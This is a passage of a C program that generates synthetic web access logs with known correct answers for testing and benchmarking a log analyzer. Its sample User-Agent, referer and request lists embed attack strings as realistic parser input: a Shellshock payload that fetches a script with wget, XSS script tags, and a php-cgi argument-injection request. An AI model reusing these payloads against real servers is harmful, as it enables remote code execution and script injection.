/* loggen.c -- a synthetic access log that knows its own answers.
 *
 * logtally's tests and benchmark need logs of any size whose correct summary
 * is known without trusting the code under test.  loggen writes such a log
 * and, with --truth, the exact answers as one JSON object with the keys of
 * the analyzer's report; with --truth-lines, one record per valid line
 * (second, status, method, bytes, client, URL, response time, virtual
 * host), from which the answers of any window follow (every hour, any
 * range) without reading the log.  The answers are computed by
 * construction while the log is written, never by reading the log back, and loggen shares no code
 * with lib/: a bug in the parser cannot hide in the truth.
 *
 * What a line is made of
 * ----------------------
 * Time runs one UTC second at a time from --start.  Each second gets a
 * Poisson number of lines around --rps, modulated by a day curve (+-35 %)
 * and, now and then, a burst of 3 to 12 times the rate for a few seconds, so
 * the peak second is a real peak.  A line logged in second t carries the
 * time t - lag, lag 0 most of the time and up to LAG_MAX seconds for a few
 * percent of lines: servers log a request when it completes but stamp it with
 * its start, so real logs are slightly out of order.
 *
 * Each line belongs to a session slot (NSESSIONS of them, picked at random);
 * a slot serves one client for 1..8 requests and then draws the next client
 * from a Zipf-Mandelbrot law (s = 1.05, q = 5).  The slots give the locality
 * of real logs (a page and its assets) while the client frequencies keep
 * that law, because session lengths do not depend on the client.  URLs are
 * drawn from a Zipf law (s = 1.1).  Both draws use Vose's alias method: O(1)
 * per draw, 8 bytes per entry.
 *
 * Every property of a client (kind, address, time zone, usual User-Agent,
 * user name) is a pure function of its index and the seed, so nothing is
 * stored per client but one "seen" bit:
 *
 *   index i --hash--> kind: IPv6 (--ipv6 per mille), hostname (--hostnames),
 *                           else IPv4
 *   IPv4      i --perm32, cycle-walked--> 32 bits whose first octet maps onto
 *             1..223 without 127.  perm32 is a bijection of 32-bit words, so
 *             distinct indices give distinct addresses.  One IPv4 client in
 *             64 is "dual stack" and is written as ::ffff:a.b.c.d (in several
 *             spellings) on about half its lines: same index, same client.
 *   IPv6      i --perm32--> words 2 and 3 of the address, so distinct indices
 *             give distinct 128-bit values; word 0 is a global prefix
 *             (2xxx), never ::ffff:0:0/96.  Each line spells the address in
 *             one of several forms: RFC 5952, full with leading zeros,
 *             uppercase, [bracketed], with a %zone, partly compressed.
 *   hostname  one of several templates, each with its own domain suffix and
 *             the index (or perm32 of it) written in decimal, whole or byte
 *             by byte: distinct indices give distinct bytes, and a name always holds letters
 *             after its last dot and no ':', so it is never an IP address.
 *
 * URLs are generated once into an arena, checked unique with a hash set (a
 * duplicate is drawn again), and counted per index.
 *
 * Line length: real logs average 106 (common) to 308 bytes a line; SPEC's
 * benchmark expects about 176 for combined (5 M lines, 880 MB).  The shares
 * of "-" referers and of short tool and crawler User-Agents are tuned to
 * that; half the sessions take the client's usual User-Agent and half any
 * (NAT, proxies), which keeps the average from hanging on the few busiest
 * clients' browsers.
 *
 * Validity by construction
 * ------------------------
 * A valid line follows its format exactly.  Its request field is
 * "METHOD TARGET PROTOCOL" with some runs of spaces, sometimes no protocol
 * (those count in the URL table), and sometimes "-", "", one token or four
 * and more tokens (those count as unparsed requests).  Referers and
 * User-Agents now and then hold Apache's escapes \" \\ \xhh.
 *
 * A malformed line breaks something the definition of a valid line requires,
 * whatever the format: an empty line; a line cut before its size (so at most
 * up to its status); binary junk or a long junk line without '[' (so there
 * is no timestamp); a timestamp with month Foo, hour 25, day 32 or 00, a
 * two-digit year, no zone or a missing bracket; no status; a size that is
 * neither digits nor "-"; a NUL inside the timestamp or the status.  No line
 * holds a '\n' except its terminator, and every line, the last included, ends
 * with one.
 *
 * Peak second
 * -----------
 * Because a line is stamped at most LAG_MAX seconds before the current
 * second, a second's count is final once the clock has moved LAG_MAX seconds
 * past it.  A ring of RING counters over the open seconds is therefore
 * enough: memory does not grow with the time span or the number of lines,
 * only with the client and URL populations.  Seconds are closed in
 * increasing order and the peak only moves on a strictly higher count, so
 * ties go to the earliest second, as the product defines it.
 *
 * Determinism and speed
 * ---------------------
 * All randomness comes from one xoshiro256** stream seeded through
 * splitmix64 from --seed (Blackman and Vigna, https://prng.di.unimi.it/);
 * the same arguments give byte-identical output on the same build.  The hot
 * path formats numbers by hand into a line buffer and copies it into a 1 MiB
 * output buffer; there is no allocation per line.  Dates are converted with
 * Howard Hinnant's civil_from_days (http://howardhinnant.github.io/
 * date_algorithms.html), with a per-zone cache of the current local day.
 *
 * Other forms
 * -----------
 * --format caddy, json and nginx:'...' write the same requests as Caddy's
 * JSON access log, JSON lines with nginx escape=json names (time,
 * remote_addr, request, status, body_bytes_sent, request_time, ...) and any
 * nginx log_format string with $variables.  Each line is rendered as a
 * combined line first and then rewritten from its pieces, so the requests,
 * clients and times are those of the combined log of the same seed.
 * --ports, --proxies and --handshakes add clients written with a port,
 * X-Forwarded-For chains through trusted proxies (127.0.0.0/8 and fd00::/8,
 * which no generated client uses: the truth counts the client behind them)
 * and TLS/RDP handshakes logged as requests (counted as non_http_requests).
 * These, and the response times of the new forms, draw from a second
 * random stream, so that the combined, common and vhost_combined logs of a
 * seed stay byte for byte what they were.  Response times are kept in an
 * array and sorted at the end: the truth's p50/p90/p99/max are exact, by
 * rank ceil(q n).
 *
 * Errors end the process at once with a message on stderr: exit status 1 for
 * an I/O error (or no memory), 2 for bad usage.
 */
#include <errno.h>
#include <getopt.h>
#include <math.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { EXIT_IO = 1, EXIT_USAGE = 2 };

#define OUT_CAP (1u << 20)        /* output buffer */
#define LINE_CAP 4096             /* a rendered line; pieces are bounded well below */
#define URL_MAX 480               /* longest generated URL */
#define LAG_MAX 8                 /* a line is stamped at most this many seconds early */
#define RING 16                   /* open seconds of the peak counter, > LAG_MAX */
#define NSESSIONS 64
#define MAX_CLIENTS 100000000u
#define MAX_URLS 20000000u
#define MAX_LINES 1000000000000ull
#define MAX_ZONES 64
/* lib/parse.h's LT_LINE_MAX: one long junk line in 32 is longer, so that
 * readers' too-long path is exercised too. */
#define LONG_JUNK_LIMIT (1u << 20)
/* The clock stays below this second, so that with any offset (less than a
 * day) the local year is at most 9999, the last one a timestamp can hold. */
#define TIME_LIMIT 253402214400ll  /* 9999-12-31T00:00:00Z */
#define TWO_PI 6.283185307179586

/* ------------------------------------------------------------------------
 * Errors
 * ---------------------------------------------------------------------- */

static const char *progname = "loggen";

__attribute__((format(printf, 2, 3), noreturn))
static void die(int status, const char *fmt, ...)
{
    va_list ap;
    fprintf(stderr, "%s: ", progname);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
    if (status == EXIT_USAGE)
        fprintf(stderr, "Try '%s --help'.\n", progname);
    exit(status);
}

/* malloc that ends the process when memory is short: every allocation here
 * is sized by the populations at start-up, so there is nothing to recover. */
static void *xcalloc(size_t n, size_t size)
{
    void *p = calloc(n ? n : 1, size ? size : 1);
    if (p == NULL)
        die(EXIT_IO, "out of memory (%zu x %zu bytes)", n, size);
    return p;
}

/* ------------------------------------------------------------------------
 * Randomness: xoshiro256** and stateless mixing
 * ---------------------------------------------------------------------- */

typedef struct rng {
    uint64_t s[4];
} rng;

static uint64_t rotl64(uint64_t x, int k)
{
    return (x << k) | (x >> (64 - k));
}

static uint64_t splitmix64(uint64_t *x)
{
    uint64_t z = (*x += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

/* A stateless 64-bit mixer (splitmix64's finalizer) for per-index hashes. */
static uint64_t mix64(uint64_t z)
{
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

static uint64_t rng_next(rng *r)
{
    uint64_t *s = r->s;
    uint64_t result = rotl64(s[1] * 5, 7) * 9;
    uint64_t t = s[1] << 17;
    s[2] ^= s[0];
    s[3] ^= s[1];
    s[1] ^= s[2];
    s[0] ^= s[3];
    s[2] ^= t;
    s[3] = rotl64(s[3], 45);
    return result;
}

/* A number in [0, n) by Lemire's multiply-shift; the bias (n / 2^32) is far
 * below anything a test could notice and keeps the draw branch-free. */
static uint32_t rng_below(rng *r, uint32_t n)
{
    return (uint32_t)(((rng_next(r) >> 32) * n) >> 32);
}

/* A double in (0, 1]: never 0, so log() of it is finite. */
static double rng_unit(rng *r)
{
    return (double)((rng_next(r) >> 11) + 1) * 0x1.0p-53;
}

/* True with probability ppm / 1,000,000. */
static bool rng_ppm(rng *r, uint32_t ppm)
{
    return rng_below(r, 1000000) < ppm;
}

/* Poisson(lambda): Knuth's product method for small means, a rounded normal
 * (Box-Muller) above 30, where the difference does not matter for a load
 * curve and the product method would cost lambda draws. */
static uint64_t rng_poisson(rng *r, double lambda)
{
    if (lambda < 30.0) {
        double limit = exp(-lambda), p = 1.0;
        uint64_t k = 0;
        for (;;) {
            p *= rng_unit(r);
            if (p <= limit)
                return k;
            k++;
        }
    }
    double g = sqrt(-2.0 * log(rng_unit(r))) * cos(TWO_PI * rng_unit(r));
    double x = lambda + sqrt(lambda) * g + 0.5;
    return x < 0.0 ? 0 : (uint64_t)x;
}

/* A keyed bijection of 32-bit words: every step (xor or add a constant,
 * multiply by an odd constant, xor with a right shift) is invertible. */
static uint32_t perm32(uint32_t x, const uint32_t k[3])
{
    x ^= k[0];
    x *= 0x9e3779b1u;
    x ^= x >> 16;
    x += k[1];
    x *= 0x85ebca6bu;
    x ^= x >> 13;
    x ^= k[2];
    x *= 0xc2b2ae35u;
    x ^= x >> 16;
    return x;
}

/* ------------------------------------------------------------------------
 * Zipf draws: Vose's alias method
 * ---------------------------------------------------------------------- */

/* Entry i is kept when the low 32 bits of a draw are below keep[i], else
 * other[i] is returned.  Weights are 1 / (i + 1 + q)^s: Zipf for q = 0, and
 * Zipf-Mandelbrot for q > 0, which flattens the head (no single client sends
 * a tenth of all requests) and leaves the tail alone. */
typedef struct alias {
    uint32_t n;
    uint32_t *keep;
    uint32_t *other;
} alias;

static void alias_init_zipf(alias *a, uint32_t n, double s, double q)
{
    double *p = xcalloc(n, sizeof *p);
    uint32_t *small = xcalloc(n, sizeof *small), *large = xcalloc(n, sizeof *large);
    uint32_t ns = 0, nl = 0;
    double sum = 0.0;

    a->n = n;
    a->keep = xcalloc(n, sizeof *a->keep);
    a->other = xcalloc(n, sizeof *a->other);
    for (uint32_t i = 0; i < n; i++)
        sum += p[i] = pow((double)i + 1.0 + q, -s);
    for (uint32_t i = 0; i < n; i++) {
        p[i] = p[i] * n / sum;
        if (p[i] < 1.0)
            small[ns++] = i;
        else
            large[nl++] = i;
    }
    while (ns > 0 && nl > 0) {
        uint32_t lo = small[--ns], hi = large[nl - 1];
        a->keep[lo] = (uint32_t)(p[lo] * 4294967296.0);
        a->other[lo] = hi;
        p[hi] -= 1.0 - p[lo];
        if (p[hi] < 1.0) {
            nl--;
            small[ns++] = hi;
        }
    }
    /* What is left has probability 1 up to rounding: it always keeps itself. */
    while (nl > 0) {
        uint32_t i = large[--nl];
        a->keep[i] = UINT32_MAX;
        a->other[i] = i;
    }
    while (ns > 0) {
        uint32_t i = small[--ns];
        a->keep[i] = UINT32_MAX;
        a->other[i] = i;
    }
    free(p);
    free(small);
    free(large);
}

static uint32_t alias_draw(const alias *a, rng *r)
{
    uint64_t x = rng_next(r);
    uint32_t i = (uint32_t)(((x >> 32) * a->n) >> 32);
    return (uint32_t)x < a->keep[i] ? i : a->other[i];
}

static void alias_free(alias *a)
{
    free(a->keep);
    free(a->other);
}

/* ------------------------------------------------------------------------
 * Small appenders for the hot path: each writes at p and returns the end.
 * ---------------------------------------------------------------------- */

static char *put_mem(char *p, const void *s, size_t n)
{
    memcpy(p, s, n);
    return p + n;
}

static char *put_str(char *p, const char *s)
{
    return put_mem(p, s, strlen(s));
}

static char *put_u64(char *p, uint64_t v)
{
    char tmp[20];
    int n = 0;
    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v != 0);
    while (n > 0)
        *p++ = tmp[--n];
    return p;
}

static char *put_2d(char *p, unsigned v)
{
    p[0] = (char)('0' + v / 10 % 10);
    p[1] = (char)('0' + v % 10);
    return p + 2;
}

static const char hex_lower[] = "0123456789abcdef";
static const char hex_upper[] = "0123456789ABCDEF";

/* A 16-bit word in hex, without leading zeros unless pad. */
static char *put_hex16(char *p, unsigned w, bool upper, bool pad)
{
    const char *digits = upper ? hex_upper : hex_lower;
    bool started = pad;
    for (int shift = 12; shift >= 0; shift -= 4) {
        unsigned d = (w >> shift) & 15;
        if (d != 0 || started || shift == 0) {
            *p++ = digits[d];
            started = true;
        }
    }
    return p;
}

/* ------------------------------------------------------------------------
 * Fixed vocabularies, modelled on the logs in shared/reallogs
 * ---------------------------------------------------------------------- */

static const char *const words[] = {
    "about", "account", "admin", "alpha", "archive", "article", "audio", "beta", "blue", "book",
    "cart", "catalog", "chair", "cheap", "city", "cloud", "coffee", "contact", "cookie", "data",
    "deal", "delta", "design", "docs", "dragon", "energy", "event", "fast", "feature", "file",
    "forest", "garden", "gift", "green", "guide", "help", "home", "hotel", "image", "index",
    "jacket", "kernel", "lamp", "laptop", "login", "logstash", "market", "media", "menu",
    "metrics", "mobile", "music", "news", "office", "orange", "panel", "photo", "planet",
    "policy", "press", "price", "profile", "puppet", "query", "radio", "red", "report", "river",
    "sale", "search", "server", "shoe", "shop", "silver", "sport", "spring", "star", "store",
    "summer", "table", "team", "theme", "ticket", "travel", "video", "watch", "water", "winter",
    "world", "xdotool", "yellow", "zoom",
};
#define NWORDS (sizeof words / sizeof words[0])

/* Non-ASCII words, percent-encoded as UTF-8 when they go into a URL. */
static const char *const intl_words[] = {
    "café", "naïve", "jalapeño", "über", "København", "Москва", "смартфон", "東京", "北京",
    "سشوار", "مگاپیکسل", "ελληνικά",
};
#define NINTL (sizeof intl_words / sizeof intl_words[0])

typedef struct weighted {
    const char *text;
    unsigned weight;
} weighted;

/* User-Agents by share of clients.  Real logs hold many more; these cover
 * the shapes: desktop, mobile, crawlers, tools, "-". */
static const weighted user_agents[] = {
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36", 90},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/119.0.0.0 Safari/537.36", 35},
    {"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
     "like Gecko) Version/17.1.2 Mobile/15E148 Safari/604.1", 40},
    {"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Mobile Safari/537.36", 40},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0", 50},
    {"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0", 20},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0", 20},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.1 Safari/605.1.15", 20},
    {"Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
     "SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", 3},
    {"Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/16.6 Mobile/15E148 Safari/604.1", 6},
    {"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 60},
    {"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Chrome/119.0.6045.199 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
     "+http://www.google.com/bot.html)", 5},
    {"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 40},
    {"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 35},
    {"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 25},
    {"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 12},
    {"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", 6},
    {"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 8},
    {"Twitterbot/1.0", 10},
    {"curl/8.4.0", 90},
    {"Wget/1.21.3", 20},
    {"python-requests/2.31.0", 90},
    {"Go-http-client/1.1", 60},
    {"-", 90},
    {"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", 8},
    {"UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/", 8},
    {"Tiny Tiny RSS/22.08 (http://tt-rss.org/)", 8},
    {"Mozilla/5.0 zgrab/0.x", 20},
    {"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", 5},
    {"Prometheus/2.45.0", 40},
};
#define NUAS (sizeof user_agents / sizeof user_agents[0])

/* User-Agents and referers as Apache writes them when the header held a
 * quote, a backslash or bytes outside printable ASCII.  The text here is the
 * logged text: backslashes are part of it. */
static const char *const escaped_agents[] = {
    "() { :; }; /bin/bash -c \\\"wget http://198.51.100.7/x.sh -O /tmp/x\\\"",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) \\\"Evil\\\" Browser",
    "Mozilla/5.0 C:\\\\Program Files\\\\Agent\\\\",
    "\\xe4\\xb8\\xad\\xe6\\x96\\x87 Browser/1.0",
    "Mozilla/5.0 \\x01\\x02\\x7f probe",
    "x\\\\\\\"y \\\" 200 123 \\\"-\\\" \\\"z",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
};
#define NESC_AGENTS (sizeof escaped_agents / sizeof escaped_agents[0])

static const char *const escaped_referers[] = {
    "http://\\xe4\\xe5\\xe3\\xf2\\xff\\xf0\\xed\\xee\\xe5-\\xec\\xfb\\xeb\\xee.\\xf0\\xf4/",
    "http://evil.example/\\\"><script>alert(1)</script>",
    "http://files.example/a\\\\b\\\\c.html",
    "https://www.example.com/search?q=\\\"quoted\\\"",
};
#define NESC_REFERERS (sizeof escaped_referers / sizeof escaped_referers[0])

static const char *const user_names[] = {"alice", "bob", "admin", "j.smith", "frank", "deploy"};
#define NUSERS (sizeof user_names / sizeof user_names[0])

static const char *const ipv6_zones[] = {"eth0", "en0", "2", "wlan0"};

/* Requests with four or more tokens: not METHOD TARGET [PROTOCOL]. */
static const char *const long_requests[] = {
    "GET /search?q=cheap flights HTTP/1.1",
    "GET /a b c HTTP/1.0",
    "POST /cgi-bin/php-cgi?-d allow_url_include=on HTTP/1.1",
    "GET / HTTP/1.1 HTTP/1.1",
    "GET /<script> alert(1) </script> HTTP/1.1",
    "OPTIONS * HTTP/1.1 extra",
};
#define NLONG_REQUESTS (sizeof long_requests / sizeof long_requests[0])

static const char month_names[] = "JanFebMarAprMayJunJulAugSepOctNovDec";

/* ------------------------------------------------------------------------
 * Options
 * ---------------------------------------------------------------------- */

typedef enum log_format { FMT_COMBINED, FMT_COMMON, FMT_VHOST, FMT_CADDY, FMT_JSON, FMT_NGINX } log_format;

/* The nginx variables loggen renders, and what the parser counts them as
 * (NV_OTHER: an ignored field, rendered "-"). */
typedef enum nginx_var {
    NV_OTHER, NV_REMOTE_ADDR, NV_REMOTE_USER, NV_TIME_LOCAL, NV_TIME_ISO, NV_MSEC, NV_REQUEST,
    NV_METHOD, NV_URI, NV_STATUS, NV_BODY, NV_BYTES, NV_REFERER, NV_AGENT, NV_HOST,
    NV_REQUEST_TIME, NV_UPSTREAM_TIME, NV_XFF,
} nginx_var;

#define MAX_PIECES 64

typedef struct nginx_piece {
    const char *lit;        /* literal text, or NULL for a variable */
    size_t len;
    nginx_var var;
    bool counted;           /* the parser's first field of its kind */
} nginx_piece;

typedef struct options {
    uint64_t lines;
    uint64_t seed;
    const char *out;        /* NULL: stdout */
    const char *truth;      /* NULL: no truth file */
    const char *truth_lines;/* NULL: no per-line truth */
    int64_t start;
    double rps;
    unsigned malformed;     /* per mille */
    unsigned ipv6;          /* per mille of clients */
    unsigned hostnames;     /* per mille of clients */
    uint32_t clients;
    uint32_t urls;
    double client_skew;     /* Zipf exponent of the client draw */
    uint32_t visit;         /* most requests in one client's visit */
    log_format format;
    int nzones;
    char zone_text[MAX_ZONES][6];   /* "+hhmm" */
    int32_t zone_offset[MAX_ZONES]; /* seconds east of UTC */
    unsigned ports;         /* per mille of lines whose client has a :port */
    unsigned proxies;       /* trusted proxies a request may pass (0: none) */
    unsigned handshakes;    /* per mille of requests that are TLS/RDP handshakes */
    nginx_piece pieces[MAX_PIECES];   /* FMT_NGINX */
    size_t n_pieces;
    bool timed;             /* the format logs a response time */
} options;

/* ------------------------------------------------------------------------
 * Generator state
 * ---------------------------------------------------------------------- */

typedef enum url_kind { U_PAGE, U_STATIC, U_API, U_DOWNLOAD, U_MISSING, U_REDIRECT } url_kind;

typedef enum client_kind { C_IPV4, C_IPV6, C_HOST } client_kind;

typedef struct session {
    uint32_t client;
    uint32_t left;          /* requests still to come from this client */
    uint32_t page;          /* last page served, for the referer; UINT32_MAX none */
    const char *agent;      /* User-Agent of this session */
} session;

typedef struct day_cache {
    int64_t day;            /* local day number of date[], or INT64_MIN */
    char date[11];          /* "dd/Mon/yyyy" */
} day_cache;

/* Everything a valid line counts, and where its fields are, for mutations. */
typedef struct line {
    char buf[LINE_CAP];
    size_t len;
    size_t lbracket, rbracket, status, size, size_end;
    uint32_t client;
    int64_t ts;
    uint32_t url;           /* UINT32_MAX: unparsed request */
    int64_t bytes;          /* -1: size "-" */
    /* For the other forms: where the combined line's pieces are, and what
     * else the line counts. */
    size_t client_at, client_end, req_at, req_end, ref_at, ref_end, ua_at, ua_end;
    int zone;
    unsigned status_v;
    const char *method;     /* NULL: the request is not METHOD URL */
    bool non_http;
    bool timed;             /* dur_us is the response time the line logs */
    uint64_t dur_us;
    unsigned ms;            /* milliseconds of $msec and Caddy's ts */
    size_t cut;             /* other forms: a line cut below this is malformed */
    const char *vhost;      /* %v of vhost_combined (NULL: none) */
} line;

typedef struct truth {
    uint64_t lines, valid, malformed, unparsed, bytes, non_http;
    uint64_t *durs;         /* response times of the valid lines, microseconds */
    size_t n_durs, cap_durs;
    uint64_t *seen;         /* bitmap over client indices */
    uint64_t *url_count;
    int64_t first_ts, last_ts;
    /* Peak: counts of the open seconds [lo, lo + RING), see the top. */
    int64_t lo;
    uint64_t ring[RING];
    int64_t peak_second;
    uint64_t peak_count;
} truth;

typedef struct gen {
    options opt;
    rng r;
    rng x;                  /* ports, proxies, handshakes, other forms */
    char alt[LINE_CAP];     /* a line rewritten in another form */
    uint64_t attr_key;
    uint32_t k_ipv4[3], k_ipv6[3], k_host[3];
    uint8_t first_octet[256];
    alias clients;
    alias urls;
    char *url_arena;
    uint64_t *url_off;      /* url i is url_arena[url_off[i] .. url_off[i + 1]) */
    uint8_t *url_kind;
    uint32_t *url_size;     /* typical body size in bytes */
    unsigned ua_total;
    session sessions[NSESSIONS];
    day_cache days[MAX_ZONES];
    uint32_t burst_left;
    double burst_factor;
    FILE *out;
    const char *out_name;
    char *obuf;
    size_t olen;
    truth t;
    line ln;
    FILE *truth_lines;
} gen;

#define IPV4_FIRST_OCTETS 222u
#define IPV4_DOMAIN (IPV4_FIRST_OCTETS << 24)

/* ------------------------------------------------------------------------
 * Output
 * ---------------------------------------------------------------------- */

static void out_flush(gen *g)
{
    if (g->olen > 0 && fwrite(g->obuf, 1, g->olen, g->out) != g->olen)
        die(EXIT_IO, "%s: write error: %s", g->out_name, strerror(errno));
    g->olen = 0;
}

static void out_write(gen *g, const char *p, size_t n)
{
    if (g->olen + n > OUT_CAP)
        out_flush(g);
    memcpy(g->obuf + g->olen, p, n);
    g->olen += n;
}

/* ------------------------------------------------------------------------
 * Clients
 * ---------------------------------------------------------------------- */

static uint64_t client_hash(const gen *g, uint32_t i)
{
    return mix64(g->attr_key ^ ((uint64_t)i * 0x9e3779b97f4a7c15ull));
}

static client_kind client_kind_of(const gen *g, uint64_t h)
{
    unsigned v = (unsigned)(h % 1000);
    if (v < g->opt.ipv6)
        return C_IPV6;
    if (v < g->opt.ipv6 + g->opt.hostnames)
        return C_HOST;
    return C_IPV4;
}

/* The IPv4 address of client i: perm32 cycle-walked into [0, IPV4_DOMAIN),
 * which is a bijection of that range, then the top byte mapped onto the
 * first octets 1..223 without 127. */
static uint32_t client_ipv4(const gen *g, uint32_t i)
{
    uint32_t y = perm32(i, g->k_ipv4);
    while (y >= IPV4_DOMAIN)
        y = perm32(y, g->k_ipv4);
    return (uint32_t)g->first_octet[y >> 24] << 24 | (y & 0xffffffu);
}

static void client_ipv6(const gen *g, uint32_t i, uint64_t h, uint16_t w[8])
{
    static const uint16_t prefixes[] = {0x2001, 0x2a00, 0x2a01, 0x2a02, 0x2600,
                                        0x2607, 0x2804, 0x2405, 0x2c0f, 0x2400};
    uint32_t mid = perm32(i, g->k_ipv6);
    uint64_t h2 = mix64(h ^ 0x6a09e667f3bcc909ull);

    w[0] = prefixes[(h >> 12) % (sizeof prefixes / sizeof prefixes[0])];
    w[1] = (w[0] == 0x2001 && (h >> 20 & 1)) ? 0x0db8 : (uint16_t)(h >> 24);
    w[2] = (uint16_t)(mid >> 16);
    w[3] = (uint16_t)mid;
    switch ((h >> 40) & 3) {
    case 0:     /* a small interface id: 2a01:4f8:1c1c:abcd::1a */
        w[4] = w[5] = w[6] = 0;
        w[7] = (uint16_t)(1 + (h2 & 0xff));
        break;
    case 1:     /* SLAAC-like random interface id */
        w[4] = (uint16_t)h2;
        w[5] = (uint16_t)(h2 >> 16);
        w[6] = (uint16_t)(h2 >> 32);
        w[7] = (uint16_t)(h2 >> 48);
        break;
    case 2:     /* zeros in the middle: 2600:1f18:...:0:0:3c:b1f2 */
        w[4] = w[5] = 0;
        w[6] = (uint16_t)(h2 & 0xfff);
        w[7] = (uint16_t)(h2 >> 16);
        break;
    default:
        w[4] = (uint16_t)(h2 & 0xfff);
        w[5] = w[6] = 0;
        w[7] = (uint16_t)(h2 >> 16);
        break;
    }
}

/* Writes the eight words; the words [zs, zs + zl) become "::" when zl > 0.
 * pad_mask bit k zero-pads word k to four digits. */
static char *put_ipv6_words(char *p, const uint16_t w[8], bool upper, unsigned pad_mask, int zs,
                            int zl)
{
    for (int k = 0; k < 8; k++) {
        if (zl > 0 && k == zs) {
            *p++ = ':';
            *p++ = ':';
            k += zl - 1;
            continue;
        }
        if (k > 0 && !(zl > 0 && k == zs + zl))
            *p++ = ':';
        p = put_hex16(p, w[k], upper, (pad_mask >> k) & 1);
    }
    return p;
}

/* The longest run of zero words (leftmost on a tie), as RFC 5952 picks it;
 * *len is 0 when no run has two words. */
static int longest_zero_run(const uint16_t w[8], int *len)
{
    int best = -1, best_len = 0;
    for (int k = 0; k < 8;) {
        if (w[k] != 0) {
            k++;
            continue;
        }
        int j = k;
        while (j < 8 && w[j] == 0)
            j++;
        if (j - k > best_len) {
            best = k;
            best_len = j - k;
        }
        k = j;
    }
    *len = best_len >= 2 ? best_len : 0;
    return best;
}

/* One textual form of an IPv6 address, picked per line. */
static char *put_ipv6_client(gen *g, char *p, const uint16_t w[8])
{
    int zl, zs = longest_zero_run(w, &zl);
    uint32_t form = rng_below(&g->r, 100);

    if (form < 45)                  /* RFC 5952 */
        return put_ipv6_words(p, w, false, 0, zs, zl);
    if (form < 55)                  /* full, leading zeros */
        return put_ipv6_words(p, w, false, 0xff, 0, 0);
    if (form < 65)                  /* uppercase */
        return put_ipv6_words(p, w, true, 0, zs, zl);
    if (form < 75) {                /* bracketed */
        *p++ = '[';
        p = put_ipv6_words(p, w, false, 0, zs, zl);
        *p++ = ']';
        return p;
    }
    if (form < 85) {                /* with a zone */
        p = put_ipv6_words(p, w, false, 0, zs, zl);
        *p++ = '%';
        return put_str(p, ipv6_zones[rng_below(&g->r, 4)]);
    }
    if (form < 92)                  /* no compression, no padding */
        return put_ipv6_words(p, w, false, 0, 0, 0);
    /* Mixed: word 1 padded, uppercase, and only the tail of the zero run
     * compressed, as in 2001:0DB8:0:0::1. */
    if (zl >= 3)
        return put_ipv6_words(p, w, true, 0x02, zs + 1, zl - 1);
    return put_ipv6_words(p, w, true, 0x02, zs, zl);
}

static char *put_ipv4(char *p, uint32_t a)
{
    p = put_u64(p, a >> 24);
    *p++ = '.';
    p = put_u64(p, (a >> 16) & 255);
    *p++ = '.';
    p = put_u64(p, (a >> 8) & 255);
    *p++ = '.';
    return put_u64(p, a & 255);
}

/* An IPv4 address written as IPv4-mapped IPv6, in one of its spellings. */
static char *put_mapped(gen *g, char *p, uint32_t a)
{
    uint32_t form = rng_below(&g->r, 100);
    if (form < 50)
        return put_ipv4(put_str(p, "::ffff:"), a);
    if (form < 65)
        return put_ipv4(put_str(p, "::FFFF:"), a);
    if (form < 75) {
        p = put_ipv4(put_str(p, "[::ffff:"), a);
        *p++ = ']';
        return p;
    }
    if (form < 85)
        return put_ipv4(put_str(p, "0:0:0:0:0:ffff:"), a);
    if (form < 95) {                /* all hex: ::ffff:c000:280 */
        p = put_str(p, "::ffff:");
        p = put_hex16(p, a >> 16, false, false);
        *p++ = ':';
        return put_hex16(p, a & 0xffff, false, false);
    }
